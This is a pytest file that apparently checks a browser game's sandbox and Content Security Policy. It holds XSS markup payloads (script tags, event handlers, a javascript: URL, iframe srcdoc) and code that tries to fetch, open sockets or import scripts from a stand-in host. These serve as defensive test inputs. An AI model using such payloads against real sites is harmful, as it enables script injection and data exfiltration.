"""Code from a link, which somebody else wrote, reaches nothing but the texts of its own game."""

import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from watching import NIM, PERSONS

MARKUP = """
from facade import scenes

BAD = (
    '<script>window.bad = "a script"</script>'
    '<g onload="window.bad = 1" onclick="window.bad = 2"><text id="trouble">x</text></g>'
    '<image href="missing.png" onerror="window.bad = 3"/>'
    '<a href="javascript:window.bad = 4"><text>link</text></a>'
    '<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml"'
    ' srcdoc="&lt;script&gt;parent.bad = 5&lt;/script&gt;"></iframe></foreignObject>'
    '<rect class="error" style="position:fixed;inset:0" fill="url(http://away/#a)"/>'
    '<svg:style xmlns:svg="http://www.w3.org/2000/svg">@import "http://away/"</svg:style>'
)
facts = scenes.picture_facts
scenes.picture_facts = lambda picture: {
    **facts(picture), "svg": picture.svg.strip().removesuffix("</svg>") + BAD + "</svg>"
}
"""
TRIES = """
import js
from pyodide.code import run_js
from pyodide.http import pyfetch

AWAY = "http://away/"
tries = {
    "fetch": lambda: js.fetch(AWAY),
    "pyfetch": lambda: pyfetch(AWAY).send(None),
    "request": lambda: js.XMLHttpRequest.new().open("GET", AWAY, False),
    "socket": lambda: js.WebSocket.new(AWAY.replace("http", "ws")),
    "caches": lambda: js.caches.open("purembts"),
    "storage": lambda: js.indexedDB.open("purembts"),
    "files": lambda: js.navigator.storage.getDirectory(),
    "worker": lambda: js.Worker.new(f"{js.location.origin}/js/worker.js"),
    "eval": lambda: js.eval("import('http://away/')"),
    "function": lambda: js.Function.new("return import('http://away/')")(),
    "run_js": lambda: run_js("import('http://away/')"),
}
done = []
for name in tries:
    try:
        tries[name]()
        done.append(name)
    except BaseException as error:
        pass
nim = nim._replace(name=f"Nim with {', '.join(done) or 'nothing'}")
"""


@pytest.fixture(scope="module")
def elsewhere():
    """The address of another host, and the paths that it was asked for."""
    asked = []

    class Elsewhere(BaseHTTPRequestHandler):
        def do_GET(self):
            asked.append(self.path)
            self.send_response(204)
            self.end_headers()

    server = ThreadingHTTPServer(("127.0.0.1", 0), Elsewhere)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}/", asked
    server.shutdown()
    server.server_close()


@pytest.fixture
def ran(play, elsewhere):
    """A function that opens a link with code, and lets the code run."""

    def opened(source, **options):
        code = source.replace("http://away/", elsewhere[0])
        return play(game="own", players=PERSONS, source=code, options=options)

    yield opened
    assert elsewhere[1] == []


def test_markup_that_code_puts_into_a_picture_does_not_come_into_the_page(ran):
    page = ran(NIM + MARKUP, bypass_csp=True)  # the filter alone
    page.wait_for_selector("#board svg")
    page.mouse.click(*page.evaluate(MIDDLE))
    page.wait_for_timeout(200)
    assert page.evaluate("window.bad") is None
    tags = "[...document.querySelectorAll('#board svg *')].map((each) => each.localName)"
    assert {*page.evaluate(tags)} <= {"title", "desc", "g", "rect", "text"}
    rest = "#board svg :is([onload], [onclick], [href], [class], [style*=fixed], [fill^=url])"
    assert page.locator(rest).count() == 0
    assert page.locator("#trouble").count() == 1


MIDDLE = """() => {
  const { left, top, width, height } = document.querySelector("#board svg").getBoundingClientRect();
  return [left + width / 2, top + height / 2];
}"""


def test_code_of_a_link_finds_no_network_and_nothing_that_the_browser_keeps(ran):
    page = ran(NIM + TRIES)
    assert page.text_content("#title") == "Nim with nothing"


BAD = """
(away) => {
  window.stopped = new Set();
  const note = ({ effectiveDirective }) => window.stopped.add(effectiveDirective);
  document.addEventListener("securitypolicyviolation", note);
  document.body.append(Object.assign(document.createElement("script"), { text: "window.bad = 1" }));
  document.body.setAttribute("onclick", "window.bad = 2");
  document.body.click();
  new Image().src = away;
  fetch(away).catch(() => {});
}
"""
STOPPED = ["connect-src", "img-src", "script-src-attr", "script-src-elem"]
"""The rules that this code breaks."""


@pytest.mark.parametrize("address", ["play.html", "tasks.html", "index.html", "docs/index.html"])
def test_a_page_runs_no_script_of_its_text_and_asks_no_other_host(
    open_page, troubles, elsewhere, address
):
    page = open_page(address)
    page.evaluate(BAD, elsewhere[0])
    end = time.monotonic() + 30
    while page.evaluate("[...stopped].sort()") != STOPPED:
        assert time.monotonic() < end, "the policy must stop all of them"
        page.wait_for_timeout(50)
    assert page.evaluate("window.bad") is None
    assert elsewhere[1] == []
    page.context.close()  # no message comes any more
    troubles.clear()


def test_the_other_host_hears_a_page_without_a_policy(open_page, troubles, elsewhere):
    page = open_page("index.html", bypass_csp=True)
    page.evaluate("(away) => fetch(away, { mode: 'no-cors' }).then(() => 0)", elsewhere[0])
    assert elsewhere[1] == ["/"]
    elsewhere[1].clear()
    troubles.clear()
